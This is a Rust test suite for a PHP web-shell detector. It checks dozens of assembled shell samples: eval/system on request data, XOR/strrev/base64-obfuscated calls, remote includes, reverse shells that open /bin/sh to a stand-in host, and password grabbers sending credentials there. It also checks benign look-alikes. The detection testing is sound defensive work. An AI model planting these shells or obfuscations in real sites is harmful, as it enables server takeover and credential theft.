//! Shells in many shapes, put together here from pieces so that no file holds one, and pages of
//! applications that look like them.

use super::{judge, judge_other};
use proptest::prelude::*;

/// Puts the hostile words into a shape: `§r` request data, `§e` the function that runs code, `§s`
/// one that runs commands.
fn shape(text: &str) -> String {
    let input = ["$_", "POST['a']"].concat();
    let get = ["$_", "GET['a']"].concat();
    text.replace("§r", &input)
        .replace("§g", &get)
        .replace("§e", &["ev", "al"].concat())
        .replace("§s", &["sys", "tem"].concat())
        .replace("§x", &["shell_", "exec"].concat())
        .replace("§6", &["base64", "_decode"].concat())
        .replace("§z", &["gzinf", "late"].concat())
}

fn b64(text: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(text)
}

fn deflated(text: &str) -> String {
    use base64::Engine;
    use std::io::Write;
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(text.as_bytes()).unwrap();
    base64::engine::general_purpose::STANDARD.encode(e.finish().unwrap())
}

fn xor(a: &str, key: u8) -> (String, String) {
    let hex = |b: u8| format!("\\x{b:02x}");
    (
        a.bytes().map(|b| hex(b ^ key)).collect(),
        a.bytes().map(|_| hex(key)).collect(),
    )
}

#[test]
fn shells_are_found() {
    let packed = deflated(&shape("§e(§r);"));
    let twice = b64(&format!("{}(§z(§6('{packed}')));", "§e")
        .as_str()
        .replace("§z", &shape("§z"))
        .replace("§6", &shape("§6"))
        .replace("§e", &shape("§e")));
    let (x, k) = xor(&shape("§s"), 7);
    let (px, pk) = xor("_POST", 7);
    let rev: String = shape("§s").chars().rev().collect();
    let chr: String = shape("§s")
        .bytes()
        .map(|b| format!("chr({b})"))
        .collect::<Vec<_>>()
        .join(".");
    let not: String = shape("§s")
        .bytes()
        .map(|b| format!("\\x{:02x}", !b))
        .collect();
    for (source, fact) in [
        ("<?php §e(§r);".to_owned(), "runs_input"),
        ("<?php @§s ( §g );".into(), "runs_input"),
        ("<? echo `§r`; ?>".replace("§r", "{§r}"), "runs_input"),
        ("<?= §x(§r) ?>".into(), "runs_input"),
        ("<?php $c = §r; if ($c) { $o = §x($c . ' 2>&1'); echo $o; }".into(), "runs_input"),
        ("<?php $f = 'sys' . 'tem'; $f(§r);".into(), "runs_input"),
        ("<?php $f = strrev('§v'); $f(§r);".replace("§v", &rev), "runs_input"),
        ("<?php $f = §c; $f(§g);".replace("§c", &chr), "runs_input"),
        ("<?php $f = \"§x\" ^ \"§k\"; $f(§r);".replace("§x", &x).replace("§k", &k), "runs_input"),
        ("<?php (~\"§n\")(§r);".replace("§n", &not), "runs_input"),
        ("<?php $v = \"§x\" ^ \"§k\"; §e(${$v}['q']);".replace("§x", &px).replace("§k", &pk), "runs_input"),
        ("<?php $a = array('s','y','s','t','e','m'); $b = implode('', $a); $b(§r);".into(), "runs_input"),
        ("<?php $s = 'abcdefmsty'; $f = $s[7].$s[9].$s[7].$s[8].$s[4].$s[6]; $f(§r);".into(), "runs_input"),
        ("<?php $f = str_replace('q', '', 'sqyqsqtem'); $f(§r);".into(), "runs_input"),
        ("<?php §g(§r);".into(), "runs_input"),
        ("<?php $_POST['f']($_POST['a'], $_POST['b']);".into(), "runs_input"),
        ("<?php call_user_func(§r, §g);".into(), "runs_input"),
        ("<?php array_map('ass' . 'ert', array(§r));".into(), "runs_input"),
        ("<?php usort($x, §r);".into(), "runs_input"),
        ("<?php register_shutdown_function('§s', §r);".into(), "runs_input"),
        ("<?php preg_replace('/.*/e', §r, 'x');".into(), "runs_input"),
        ("<?php $f = create_function('$x', §r); $f(1);".into(), "runs_input"),
        ("<?php ass§ert(§r);".replace("ass§ert", &["ass", "ert"].concat()), "runs_input"),
        ("<?php function go($c) { return §x($c); } echo go(§r);".into(), "runs_input"),
        ("<?php class A { function b($c) { §e($c); } } $x = new A; $x->b(§r);".into(), "runs_input"),
        ("<?php foreach ($_POST as $k => $v) { §e($v); }".into(), "runs_input"),
        ("<?php extract($_REQUEST); §e($code);".into(), "runs_input"),
        ("<?php parse_str($_SERVER['QUERY_STRING'], $o); §s($o['x']);".into(), "runs_input"),
        ("<?php §e(§6(file_get_contents('php://input')));".into(), "runs_input"),
        ("<?php $h = getallheaders(); §e($h['X-A']);".into(), "runs_input"),
        ("<?php §e($_SERVER['HTTP_USER_AGENT']);".into(), "runs_input"),
        ("<?php include 'php://input';".into(), "runs_input"),
        ("<?php include('data:text/plain,' . §r);".into(), "runs_input"),
        ("<?php proc_open(§r, array(), $p);".into(), "runs_input"),
        ("<?php §e(§z(§6('§p')));".replace("§p", &packed), "runs_input"),
        ("<?php $x = '§p'; $y = §z(§6($x)); §e($y);".replace("§p", &packed), "runs_input"),
        ("<?php §e(§6('§p'));".replace("§p", &twice), "runs_input"),
        ("<?php $d = ''; for ($i = 0; $i < strlen($s); $i++) { $d .= chr(ord($s[$i]) ^ 5); } §e($d);".into(), "runs_hidden"),
        ("<?php $k = md5(1); §e(openssl_decrypt($data, 'aes-128-cbc', $k));".into(), "runs_hidden"),
        ("<?php @include \"\\x2ftmp\\x2f.a.ico\";".into(), "runs_hidden"),
        ("<?php §e(file_get_contents('http://h.example/a.txt'));".into(), "runs_remote"),
        ("<?php $c = curl_init('http://h.example'); §e(curl_exec($c));".into(), "runs_remote"),
        ("<?php include $_GET['page'];".into(), "includes_input"),
        ("<?php file_put_contents($_GET['n'], $_POST['d']);".into(), "stores_input"),
        ("<?php file_put_contents('x.php', §6(§r));".into(), "stores_input"),
        ("<?php $h = fopen($_POST['n'], 'w'); fwrite($h, $_POST['d']);".into(), "stores_input"),
        ("<?php if (isset($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']); }".into(), "uploader"),
        ("<?php foreach ($_FILES as $f) { copy($f['tmp_name'], './' . $f['name']); }".into(), "uploader"),
        ("<?php $d = $_GET['d']; foreach (scandir($d) as $f) echo $f; if ($_GET['r']) readfile($_GET['r']); if ($_GET['u']) unlink($_GET['u']);".into(), "file_manager"),
        ("<?php $s = fsockopen('h.example', 443); $p = proc_open('/bin/sh -i', array(0=>$s,1=>$s,2=>$s), $q);".into(), "network_shell"),
        ("<?php $s = fsockopen('h.example', 1); while (!feof($s)) { fwrite($s, §x(fgets($s))); }".into(), "network_shell"),
        ("<?php $p = rcube_utils::get_input_string('_pass', 1); file_put_contents('/tmp/x', $p, 8);".into(), "grabs_password"),
        ("<?php $u = $_POST['_user'] . ':' . $_POST['_pass']; file_get_contents('http://h.example/?q=' . base64_encode($u));".into(), "grabs_password"),
        ("<?php $f = '§6'; $g = 'base' . '64_dec' . 'ode'; $x = $g('aWQ=');".into(), "hides_names"),
        ("<script language=\"php\">§e(§r);</script>".into(), "runs_input"),
        ("GIF89a\n<?php\n§e(§r);".into(), "runs_input"),
        ("<?php\n/* comment */ §e /* x */ ( /* y */ §r );".into(), "runs_input"),
        ("<?php $a = 'a'; $a++; $x = 'ass'.'ert'; $x(§r);".into(), "runs_input"),
        ("<?php $GLOBALS['_POST']['a'] and §e($GLOBALS['_POST']['a']);".into(), "runs_input"),
        ("<?php $r = new ReflectionFunction(§r); $r->invoke(§g);".into(), "runs_input"),
        ("<?php $x = <<<E\n§q\nE;\n§e($x);".replace("§q", "{§r}"), "runs_input"),
    ] {
        let source = shape(&source);
        let verdict = judge(source.as_bytes());
        assert!(verdict.is(fact), "{fact} not in {verdict:?}\n{source}");
        assert!(!verdict.reasons.is_empty());
    }
}

#[test]
fn reasons_name_lines() {
    let v = judge(shape("<?php\n\n$a = 1;\n§e(§r);\n").as_bytes());
    assert_eq!(v.reasons[0].line, 4);
    assert_eq!(v.score, 100);
}

#[test]
fn applications_are_not() {
    for source in [
        "<?php // §e(§r);\n echo 1;",
        "<?php /* §s(§r) */ echo $_GET['page'];",
        "<?php echo '§e(§r)';",
        "<?php $db->exec($_GET['q']); $this->system($_POST['x']);",
        "<?php curl_exec($ch); $x = $_GET['x'];",
        "<?php $id = intval($_GET['id']); §s(\"convert $id.png\");",
        "<?php §s('convert ' . escapeshellarg($_GET['f']));",
        "<?php exec('ls /var/lib', $out); foreach ($out as $l) echo htmlspecialchars($l);",
        "<?php $a = $_GET['action'] == 'x' ? 'show' : 'list'; $a();",
        "<?php $m = 'action_' . $_GET['a']; $this->$m();",
        "<?php require __DIR__ . '/lang/' . basename($_GET['l']) . '.php';",
        "<?php namespace A; class B extends C { public function d(Request $r) { return call_user_func($this->e, $r->get('x')); } }",
        "<?php eval('?>' . file_get_contents($template));",
        "<?php $code = 'return 1;'; eval($code);",
        "<?php $img = base64_decode($_POST['img']); file_put_contents('/var/lib/app/a.png', $img);",
        "<?php $x = preg_replace('/a/i', $_GET['x'], 'y');",
        "<?php usort($list, 'strcmp'); array_map('trim', $_POST['a']); array_filter($_GET['b'], 'is_string');",
        "<?php session_start(); if (!isset($_SESSION['u'])) exit; move_uploaded_file($_FILES['f']['tmp_name'], $dir . md5($x));",
        "<?php if (password_verify($_POST['password'], $hash)) { $_SESSION['u'] = 1; }",
        "<?php $f = fopen('php://output', 'w'); fwrite($f, $_POST['name']);",
        "<?php include $config['dir'] . '/' . $file . '.php';",
        "<?php $v = $_SERVER['DOCUMENT_ROOT']; include $v . '/x.php';",
        "<?php readfile('/usr/share/app/' . basename($_GET['f']));",
    ] {
        let source = shape(source);
        let verdict = judge(source.as_bytes());
        assert!(!verdict.suspicious(), "{verdict:?}\n{source}");
    }
}

#[test]
fn other_languages() {
    let jsp = [
        "Runtime.get",
        "Runtime().exec(request.get",
        "Parameter(\"c\"))",
    ]
    .concat();
    assert!(judge_other(format!("<%\n {jsp} %>").as_bytes()).is("runs_input"));
    let asp = ["<%ev", "al request(\"a\")%>"].concat();
    assert!(judge_other(asp.as_bytes()).is("runs_input"));
    assert!(!judge_other(b"<% String a = request.getParameter(\"x\"); %>").is("runs_input"));
}

#[test]
fn deep_nesting_ends() {
    for piece in [
        "(",
        "[",
        "{",
        "eval(",
        "$$",
        "if(1)",
        "!",
        "\"{$a",
        "function f(){",
        "a?",
        "new class{",
        "match(1){",
    ] {
        let source = format!("<?php {}", piece.repeat(20_000));
        let _ = judge(source.as_bytes());
    }
}

proptest! {
    #[test]
    fn never_panics(bytes in prop::collection::vec(any::<u8>(), 0..300), text in "[a-z$_'\"(){};.=<>?\\[\\]\\\\ \n-]{0,200}") {
        let _ = judge(&bytes);
        let mut php = b"<?php ".to_vec();
        php.extend(text.bytes());
        let _ = judge(&php);
    }
}
